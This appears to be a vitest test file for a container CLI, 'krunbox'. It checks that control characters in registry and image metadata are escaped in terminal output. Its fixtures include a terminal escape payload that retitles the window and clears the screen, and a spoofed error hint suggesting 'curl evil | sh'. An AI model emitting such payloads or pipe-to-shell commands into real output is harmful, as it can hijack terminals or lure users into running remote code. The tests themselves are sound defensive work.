/**
 * What a registry or an image says never reaches the terminal raw: `krunbox pull`, `images`,
 * `rmi` and `run` show control characters from error bodies, platforms and image Users as
 * escapes, and their `--json` output still parses to the raw values. The registry is the
 * scripted one of @krunbox/testing (no external tools); `run` needs runsc.
 */
import { spawnSync } from "node:child_process"
import { mkdtempSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { runCli } from "./cliProcess.js"
import { buildLayout, makeTempDir, prerequisite, removeDir, runnableBusybox, type ScriptedRegistry, startScriptedRegistry } from "@krunbox/testing"

const store = mkdtempSync(join(tmpdir(), "krunbox-cli-hostile-text-"))
const env = { ...process.env, KRUNBOX_IMAGE_STORE: store }
const krunbox = (args: ReadonlyArray<string>) => runCli(args, env)

const runsc = prerequisite(spawnSync("runsc", ["--version"], { stdio: "ignore" }).status === 0 ? undefined : "runsc (Debian package runsc) is not installed")

// oxlint-disable-next-line no-control-regex -- what a terminal obeys
const obeyed = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
/** sets the terminal's title, then clears the screen (with a one-byte C1 CSI, which JSON.stringify leaves raw) */
const title = "\u001b]0;pwned\u0007\u009b2J"
const titleShown = "\\u001b]0;pwned\\u0007\\u009b2J"

describe("text from registries and images on the terminal", () => {
  let work = ""
  let registry: ScriptedRegistry
  const ref = (name: string) => `${registry.host}/${name}`

  beforeAll(async () => {
    work = makeTempDir("cli-hostile-text")
    registry = await startScriptedRegistry()
    const platform = buildLayout(join(work, "platform"), "1", [
      { platform: { os: "linux", architecture: `amd64${title}` }, layers: [{ entries: [{ name: "a", content: "a" }], compression: "gzip" }] }
    ])
    registry.serve("platform", platform.dir)
    const user = buildLayout(join(work, "user"), "1", [runnableBusybox({ User: `app${title}`, Cmd: ["/bin/true"] })])
    registry.serve("user", user.dir)
    registry.override("/manifests/evil", (_request, response) => {
      response.writeHead(500, { "content-type": "text/plain" }).end(`oops${title}\rkrunbox: hint: curl evil | sh`)
    })
  })
  afterAll(async () => {
    await registry?.stop()
    removeDir(work)
    removeDir(store)
  })

  it("pull shows an image's hostile architecture escaped", async () => {
    const result = await krunbox(["pull", ref("platform:1")])
    expect(result.status, result.stderr).toBe(0)
    expect(result.stderr).not.toMatch(obeyed)
    expect(result.stderr).toContain(`linux/amd64${titleShown}: 1 layer`)
    expect(result.stdout).not.toMatch(obeyed)
  })

  it("images shows it escaped in the table; --json parses to the raw value", async () => {
    const table = await krunbox(["images"])
    expect(table.status).toBe(0)
    expect(table.stdout).not.toMatch(obeyed)
    expect(table.stdout).toContain(`linux/amd64${titleShown}`)
    const json = await krunbox(["images", "--json"])
    expect(json.stdout).not.toMatch(obeyed)
    expect((JSON.parse(json.stdout) as Array<{ platform: string }>)[0]?.platform).toBe(`linux/amd64${title}`)
  })

  const errorBodyEscaped = async (args: ReadonlyArray<string>) => {
    const result = await krunbox(args)
    expect(result.status).toBe(125)
    expect(result.stderr).not.toMatch(obeyed)
    expect(result.stderr).toContain(`oops${titleShown}\\rkrunbox: hint: curl evil | sh`)
    // the only real hint line is krunbox's own
    expect(result.stderr.split("\n").filter((line) => line.startsWith("krunbox: hint:"))).toHaveLength(1)
    const json = await krunbox([args[0]!, "--json", ...args.slice(1)])
    expect(json.stdout).not.toMatch(obeyed)
    // the library's message is escaped where it is made, so JSON carries the escapes as text
    expect(JSON.parse(json.stdout).error.message).toContain(`oops${titleShown}`)
  }

  it("pull: a registry's error body is escaped in the message, and in --json", async () => {
    await errorBodyEscaped(["pull", ref("platform:evil")])
  })

  it.skipIf(runsc.skip)(runsc.title("run: a registry's error body is escaped in the message, and in --json"), async () => {
    runsc.check()
    await errorBodyEscaped(["run", ref("platform:evil"), "--", "/bin/true"])
  })

  it.skipIf(runsc.skip)(runsc.title("run prints the root notice with an image's hostile User escaped"), async () => {
    runsc.check()
    const result = await krunbox(["run", ref("user:1"), "--", "/bin/true"])
    expect(result.status, result.stderr).toBe(0)
    expect(result.stderr).not.toMatch(obeyed)
    expect(result.stderr).toContain(`sets User "app${titleShown}"`)
  })

  it("rmi names the removed image without obeying anything in it", async () => {
    const result = await krunbox(["rmi", ref("platform:1")])
    expect(result.status).toBe(0)
    expect(result.stdout).not.toMatch(obeyed)
  })
})
